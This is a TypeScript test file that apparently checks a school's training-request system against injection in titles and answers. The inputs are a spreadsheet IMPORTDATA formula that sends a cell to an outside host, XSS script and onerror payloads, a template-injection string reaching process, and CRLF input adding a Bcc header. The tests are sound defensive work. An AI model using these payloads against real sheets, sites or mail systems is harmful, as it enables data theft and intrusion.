import { expect, test } from 'vitest'
import { aSchool } from './a-school.ts'
import { tells, weekAfter } from './how-it-went.ts'
import { approved, nextTuesday } from './one-request.ts'

const title = 'What is it called?'
const contact = 'Link, or who to contact'

test.for([
  '=IMPORTDATA("https://collect.example.net/?"&B2)',
  '+44 1632 960000 reading day',
  '-1+1',
  '@SUM(A1:A9)',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '</td></table><h1>Free money</h1>',
  '{{signedBy}} {{{constructor.constructor("return process")()}}}',
  `$${'{7*7}'} %s%n`,
])('a title that reads %s is a title, in the row and in the letter', async (written) => {
  const school = await aSchool()

  await school.asks('Bryony Castellow', { [title]: written, [contact]: '' })
  await school.settles()

  expect((await school.row('R-0001'))['Who and what']).toBe(`Bryony Castellow, Year 2: ${written}`)
  const [letter] = school.letters('Bryony Castellow')
  expect(letter?.subject).toBe(`We have your request: ${written} (R-0001)`)
  expect(letter?.text).toContain(`your request for ${written} on Tuesday 12 January 2027`)
  expect(letter?.html).not.toMatch(/<script|<img|<h1/)
})

test('a title that is a formula is text at Google, and nothing in the row is a formula', async () => {
  const school = await aSchool()

  await school.asks('Bryony Castellow', {
    [title]: '=1+1',
    [contact]: '=HYPERLINK("https://x.example.net","Larkrise")',
  })
  await school.settles()

  const { id } = (await school.desk.school()).files.desk
  const cells = JSON.stringify(
    school.desk.google.sheets.get({ account: school.desk.automation, counted: false }, id, {
      includeGridData: true,
      fields: 'sheets(data(rowData(values(userEnteredValue))))',
    }),
  )
  expect(cells).toContain('=1+1')
  expect(cells).not.toContain('formulaValue')
})

test('new lines in a title cannot add a header or a recipient to the letter', async () => {
  const school = await aSchool()

  await school.asks('Bryony Castellow', {
    [title]: 'Leadership\r\nBcc: someone@elsewhere.example.com\r\n\r\nHello',
  })
  await school.settles()

  expect(school.letters().map(({ to, subject }) => [to, subject])).toEqual([
    [
      'bryony.castellow@thistledown-lane.example.org',
      'We have your request: Leadership Bcc: someone@elsewhere.example.com Hello (R-0001)',
    ],
  ])
})

test('the words for the letter go into it as they were written, and no further', async () => {
  const school = await aSchool()
  await school.asks('Deena Marwick')
  await school.meets({ 'Meeting on': '12/11/2026', 'Who was there': 'Ruth Ellerby, <b>Samir</b> Quayle' })
  await school.settles()

  await school.agrees('R-0001', {
    'Agreed in the meeting': 'Decline',
    'Reason if not yes': 'Value',
    'Words for the letter': 'Please ask {{office}} <a href="https://x.example.net">here</a> & thank you.',
  })
  await school.comes('15:45')

  const letter = school.letters('Deena Marwick').at(-1)
  expect(letter?.text).toContain(
    'Please ask {{office}} <a href="https://x.example.net">here</a> & thank you.',
  )
  expect(letter?.html).not.toContain('<a href="https://x.example.net">')
  expect(letter?.html).not.toContain('<b>Samir')
})

test('an answer of a megabyte is refused with a sentence; its beginning, length and digest are kept', async () => {
  const school = await aSchool()
  const long = 'I would like to learn more about reading. '.repeat(25_000)

  const answer = await school.asks('Bryony Castellow', { 'How will it help?': long })
  await school.settles()

  const { id, forms } = await school.desk.school()
  const kept = await school.desk.outside().store.get(`schools/${id}/answers/${forms.request.id}.${answer}`)
  const [letter] = school.letters('Bryony Castellow')
  expect(letter?.text).toContain(
    'Your answer to “How will it help?” is longer than 5,000 characters. Write a shorter one',
  )
  expect(letter?.text.length).toBeLessThan(5_000)
  expect(await school.needsAttention()).toHaveLength(1)
  expect(String(kept?.raw)).toHaveLength(100_000)
  expect(kept?.rawLength).toBeGreaterThan(1_000_000)
  expect(kept?.rawHash).toMatch(/^[0-9a-f]{24,}$/)
})

test('nothing that people wrote, and none of their names, comes into the log', async () => {
  const log: string[] = []
  const school = await aSchool({
    people: { 'Bryony Castellow': { 'E-mail': 'cut@thistledown-lane.example.org' } },
    log: (what, about) => log.push(`${what} ${JSON.stringify(about)}`),
  })

  await school.asks('cut@thistledown-lane.example.org', {
    [title]: 'A canary called Percival\r\nlevel=error',
  })
  await school.settles()
  await school.asks('Ruth Ellerby', { [title]: 'A canary called Percival' })
  await school.comes('16:00')

  expect(log.join('\n')).not.toMatch(/Percival|Bryony|Castellow|Ellerby|@thistledown/i)
})

test.for([
  [
    'would share without her name',
    {
      'Which questions?': 'Sharing it with colleagues',
      'May colleagues read your key messages?': 'yes, without my name',
      'Who should get them by letter?': 'my phase',
      'How would you share it?': 'come and see me',
      'Would you word your key messages differently?': `I had been shouting all term. ${'And more. '.repeat(110)}`,
    },
  ],
  [
    'learned',
    { ...weekAfter, 'One thing you learned': `I had been shouting all term. ${'And more. '.repeat(600)}` },
  ],
] as const)(
  'however long it is, what somebody %s stands in no list that all leaders read',
  async ([, answers]) => {
    const school = await approved(nextTuesday)
    await school.comes('09:00', '2026-11-24')
    await tells(school, 'Bryony Castellow', {
      ...weekAfter,
      'Three key messages for colleagues': 'Count to five.',
    })

    await tells(school, 'Bryony Castellow', answers)

    const list = JSON.stringify(await school.needsAttention())
    expect(list).toContain('Bryony Castellow’s answer could not be read')
    expect(list).not.toContain('shouting')
  },
)
